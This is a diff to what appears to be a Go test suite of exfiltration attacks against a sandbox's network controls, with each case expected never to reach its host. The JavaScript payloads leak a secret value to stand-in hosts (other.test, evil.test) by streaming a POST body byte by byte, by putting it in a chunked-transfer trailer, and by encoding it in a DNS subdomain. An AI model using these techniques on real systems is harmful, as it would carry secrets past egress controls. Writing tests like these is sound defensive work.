@@ -31,7 +31,8 @@ func values() []Attack {
 	send("in a body, one byte at a time", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: new ReadableStream({ async start(c) { for (const ch of "xx" + value + "yy") { c.enqueue(new TextEncoder().encode(ch)); await new Promise((d) => setTimeout(d, 1)); } c.close(); } }) }`)
 	list = append(list, Attack{Section: "A", Name: "a value that got out, in a trailer", Expected: "never arrives", Judge: func(e *Evidence) (string, bool) { return e.brief(), len(e.Arrived) > 0 },
 		Code: reverse + `await raw("other.test", "other.test", "POST /x/sink?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Note: " + value + "\r\n\r\n");`})
-	const host = `await show(fetch("https://" + value + ".HOST/x/ok?t=TRIAL"));`
+	// What refuses it may name the host, so the code does not print it.
+	const host = `try { const r = await fetch("https://" + value + ".HOST/x/ok?t=TRIAL"); const x = await r.json(); out({ status: r.status, code: x.code }); } catch { out({ error: "no answer" }); }`
 	add("as a host of a wildcard API", strings.Replace(host, "HOST", "wild.test", 1))
 	add("as a host in no API", strings.Replace(host, "HOST", "evil.test", 1))
 	add("as a host under YOLO_MODE", strings.Replace(host, "HOST", "evil.test", 1))
